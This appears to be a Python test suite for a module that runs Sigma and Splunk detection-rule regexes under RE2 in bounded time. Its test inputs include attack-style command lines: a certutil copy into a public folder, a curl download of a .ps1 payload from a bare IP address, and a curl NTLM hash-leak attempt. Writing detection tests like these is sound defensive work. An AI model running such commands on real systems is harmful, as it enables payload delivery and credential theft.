"""Rule regular expressions run under RE2 in bounded time, or are reported unsupported.

Patterns are read from real corpus rules through the Sigma source, exactly as
the server will receive them.
"""

from __future__ import annotations

import logging
import re
import time
from pathlib import Path

from rulescope.index import safe_regex
from rulescope.index.model import Predicate
from rulescope.index.sources.sigma import SigmaSource

logger = logging.getLogger(__name__)


def _regex_predicates(sigma_corpus: Path, rel_path: str) -> list[Predicate]:
    """The ``|re`` predicates of one real Sigma rule."""
    source = SigmaSource(sigma_corpus)
    rules = source.read(sigma_corpus / rel_path)
    return [p for r in rules for p in r.predicates if p.operator == "regex_match"]


def _flags(predicate: Predicate) -> int:
    """The ``re`` flags of a predicate's Sigma modifiers after ``|re``."""
    modifiers = predicate.raw_field.split("|")[1:]
    flags = 0
    for modifier in modifiers[modifiers.index("re") + 1 :]:
        flags |= safe_regex.SIGMA_MODIFIER_FLAGS[modifier]
    return flags


def test_search_catastrophic_pattern_returns_within_100_ms() -> None:
    """``(a+)+$`` on fifty a's and a '!' is answered False in under 100 ms."""
    started = time.perf_counter()
    found = safe_regex.search("(a+)+$", "a" * 50 + "!")
    elapsed = time.perf_counter() - started
    assert found is False
    assert elapsed < 0.1


def test_search_nested_quantifiers_on_long_text_stays_fast() -> None:
    """``(x+x+)+y`` over 100,000 x's, exponential for ``re``, takes under 100 ms."""
    started = time.perf_counter()
    assert safe_regex.search("(x+x+)+y", "x" * 100_000) is False
    assert time.perf_counter() - started < 0.1


def test_search_refuses_text_over_work_budget() -> None:
    """A huge program on 16 KB of text is refused instead of running a second."""
    pattern = r"(\w+\s*){1,1000}x"
    started = time.perf_counter()
    assert safe_regex.search(pattern, "ab1 " * 4096) is None
    assert safe_regex.search(pattern, "ab1 ab1 x") is True
    assert time.perf_counter() - started < 0.1


def test_search_sigma_ignore_case_modifier(sigma_corpus: Path) -> None:
    """The ``CommandLine|re|i`` of the system-folder copy rule matches lower case."""
    rule = "rules/windows/process_creation/proc_creation_win_susp_copy_system_dir.yml"
    (predicate,) = _regex_predicates(sigma_corpus, rule)
    assert predicate.raw_field == "CommandLine|re|i"
    flags = _flags(predicate)
    command = r"cmd.exe /c copy c:\windows\system32\certutil.exe C:\Users\Public\a.exe"
    assert safe_regex.search(predicate.value, command, flags) is True
    assert safe_regex.search(predicate.value, command) is False
    benign = r"cmd.exe /c copy report.txt D:\backup\report.txt"
    assert safe_regex.search(predicate.value, benign, flags) is False


def test_search_sigma_direct_ip_download(sigma_corpus: Path) -> None:
    """The curl direct-IP rule's regex matches an IP URL and not a host name."""
    rule = (
        "rules/windows/process_creation/"
        "proc_creation_win_curl_download_direct_ip_susp_extensions.yml"
    )
    (predicate,) = _regex_predicates(sigma_corpus, rule)
    pattern = safe_regex.compile_safe(predicate.value)
    assert pattern is not None
    assert pattern.search("curl -O http://192.168.1.10/payload.ps1") is True
    assert pattern.search("curl -O https://example.com/payload.ps1") is False


def test_search_sigma_inline_ignore_case(sigma_corpus: Path) -> None:
    """The curl NTLM leak rule's ``(?i)`` pattern finds ``--USER :`` in any case."""
    rule = (
        "rules/windows/process_creation/"
        "proc_creation_win_curl_ntlm_hash_leak_attempt.yml"
    )
    values = {p.value for p in _regex_predicates(sigma_corpus, rule)}
    assert r"(?i)\s(-u|--user)\s*:" in values
    pattern = r"(?i)\s(-u|--user)\s*:"
    assert safe_regex.search(pattern, "curl.exe --USER : http://10.0.0.5/x") is True
    assert safe_regex.search(pattern, "curl.exe -o out.txt http://host/") is False


def test_search_sigma_antivirus_apt_signature(sigma_corpus: Path) -> None:
    """``APT\\d`` from the antivirus APT rule matches 'Backdoor.APT29' only."""
    rule = "rules/category/antivirus/av_advanced_persistent_threat.yml"
    values = [p.value for p in _regex_predicates(sigma_corpus, rule)]
    assert values[:4] == [r"APT\d", r"ATK\d", r"UNC\d", r"UAC\d"]
    assert safe_regex.search(values[0], "Backdoor.APT29.Win64") is True
    assert safe_regex.search(values[0], "HackTool.Win32.Mimikatz") is False


def test_compile_safe_rejects_splunk_lookbehind(corpus: Path) -> None:
    """The Splunk ADS rule's ``(?<!\\/)`` lookbehind is unsupported, with a reason."""
    rule = (
        corpus
        / "splunk/detections/endpoint/windows_alternate_datastream___base64_content.yml"
    )
    pattern = r"(?<!\/)\b\w+(\.\w+)?:\w+(\.\w+)?$"
    assert pattern in rule.read_text()
    assert safe_regex.compile_safe(pattern) is None
    assert safe_regex.search(pattern, r"C:\Temp\file.txt:hidden") is None
    assert safe_regex.unsupported_reason(pattern) == "invalid perl operator: (?<!"


def test_compile_safe_rejects_pcre_only_constructs() -> None:
    """Backreferences, atomic groups, ``\\Z`` and verbose mode get a reason."""
    for pattern, flags in [
        (r"(a)\1", 0),
        (r"(?>a+)b", 0),
        (r"exe\Z", 0),
        ("a b", re.VERBOSE),
    ]:
        assert safe_regex.compile_safe(pattern, flags) is None
        assert safe_regex.unsupported_reason(pattern, flags)
    assert safe_regex.unsupported_reason(r"\.exe$") is None


def test_search_text_with_lone_surrogate() -> None:
    """Text decoded from invalid UTF-8 is searched, not raised on."""
    text = b"cmd\xff.exe /c whoami".decode("utf-8", "surrogateescape")
    assert safe_regex.search(r"whoami$", text) is True


def test_compile_safe_every_sigma_re_value(sigma_corpus: Path) -> None:
    """Every ``|re`` value in the Sigma corpus compiles under RE2 or has a reason."""
    source = SigmaSource(sigma_corpus)
    compiled, unsupported = 0, []
    for path in sorted(sigma_corpus.rglob("*.yml")):
        if "|re" not in path.read_text(encoding="utf-8", errors="replace"):
            continue
        for rule in source.read(path):
            for predicate in rule.predicates:
                if predicate.operator != "regex_match":
                    continue
                flags = _flags(predicate)
                if safe_regex.compile_safe(predicate.value, flags) is not None:
                    compiled += 1
                    continue
                reason = safe_regex.unsupported_reason(predicate.value, flags)
                assert reason, predicate.value
                unsupported.append((path.name, predicate.value, reason))
    logger.info("|re values: %d compile, %d unsupported", compiled, len(unsupported))
    assert compiled + len(unsupported) >= 200
    assert len(unsupported) <= compiled // 10, unsupported
